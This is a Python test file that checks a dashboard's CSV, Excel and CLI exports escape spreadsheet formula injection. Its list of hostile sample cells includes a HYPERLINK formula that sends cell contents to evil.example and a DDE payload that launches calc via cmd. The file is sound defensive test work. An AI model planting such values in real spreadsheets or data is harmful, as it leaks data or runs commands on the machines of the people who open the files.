"""Document text and user input stay text: no CSV cell becomes a formula (every CSV the project
writes), no Excel cell becomes a formula or a link, and no document text becomes a link or
markup on the screen — Markdown, captions, subheaders and Plotly charts alike."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import plotly.graph_objects as go
import polars as pl
import pytest

from dashboard import charts, export
from dashboard import format as fmt
from jixiao.csvsafe import safe_cell, safe_frame

ROOT = Path(__file__).resolve().parents[2]
SEED_004 = next((ROOT / "datasets" / "seeds").glob("004_*.txt"))

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "=1+1", "@SUM(1,2)", "-2+3", "+cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "=A1", "-", "@"]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_neutralises_formulas(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "-12.5", "+3", "-5%", "95%", "正常发放", "a=1", "1+1", "", None, "≥98%", "'=1"])
def test_safe_cell_leaves_plain_text_and_signed_numbers(text):
    assert safe_cell(text) == text


def test_safe_frame_matches_safe_cell_and_keeps_numbers():
    texts = HOSTILE + ["-5", "正常", None]
    df = pl.DataFrame({"t": texts, "n": [-1.5] * len(texts)})
    out = safe_frame(df)
    assert out["t"].to_list() == [safe_cell(t) for t in texts]
    assert out["n"].dtype == pl.Float64 and out["n"].to_list() == [-1.5] * len(texts)


def _csv_rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_download_neutralises_every_text_cell():
    flags = pl.DataFrame({
        "rule": ["JX301", "JX302"], "message": ["=1+1", "得分与规则不符"], "unit": ["@SUM(1,2)", "甲单位"],
        "waiver_reason": [HOSTILE[0], "-2+3"], "waiver_reviewer": ["+审核", None], "score": [-3.5, 10.0],
    })
    spec = {"rule": fmt.text("规则"), "message": fmt.text("问题说明"), "unit": fmt.text("单位"),
            "waiver_reason": fmt.text("接受理由"), "waiver_reviewer": fmt.text("审核人"), "score": fmt.score("得分")}
    rows = _csv_rows(export.to_csv_bytes(flags, spec))
    assert rows[0] == ["规则", "问题说明", "单位", "接受理由", "审核人", "得分"]
    assert rows[1] == ["JX301", "'=1+1", "'@SUM(1,2)", "'" + HOSTILE[0], "'+审核", "-3.5"]
    assert rows[2] == ["JX302", "得分与规则不符", "甲单位", "'-2+3", "", "10.0"]
    for row in rows[1:]:
        assert not any(cell and (cell[0] in "=+@\t\r" or cell.startswith("-2")) for cell in row)


def test_excel_download_writes_text_as_text():
    from openpyxl import load_workbook

    df = pl.DataFrame({"t": ["=1+1", HOSTILE[0], "@SUM(1,2)", "http://evil.example", "www.evil.example"],
                       "n": [-1.5, 2.0, 3.0, 4.0, 5.0]})
    sheet = load_workbook(io.BytesIO(export.to_excel_bytes(df, {"t": fmt.text("文字"), "n": fmt.num("数")}))).active
    for row in sheet.iter_rows(min_row=2):
        text, number = row
        assert text.data_type == "s" and text.hyperlink is None
        assert number.data_type == "n"
    assert sheet.cell(2, 2).value == -1.5


def test_cli_flags_csv_neutralises_document_text(tmp_path):
    doc = tmp_path / "hostile.txt"
    doc.write_text(SEED_004.read_text(encoding="utf-8").replace(
        "库尔勒市社会保险中心", '=HYPERLINK("http://evil.example","库尔勒市社会保险中心")', 1), encoding="utf-8")
    db = tmp_path / "x.duckdb"
    run = lambda *a: subprocess.run([sys.executable, "-m", "jixiao.cli", *a], capture_output=True, text=True, timeout=300)
    assert run("ingest", str(doc), "--db", str(db)).returncode == 0
    out = run("flags", "--db", str(db), "--format", "csv")
    assert out.returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    units = {r["unit"] for r in rows}
    assert "'" + '=HYPERLINK("http://evil.example","库尔勒市社会保险中心")' in units
    assert not any(v[0] in "=+@" for r in rows for v in r.values() if v)
    # JSON keeps the text as written (it is not a spreadsheet format)
    as_json = json.loads(run("flags", "--db", str(db), "--format", "json").stdout)
    assert any(r["unit"].startswith("=HYPERLINK") for r in as_json)
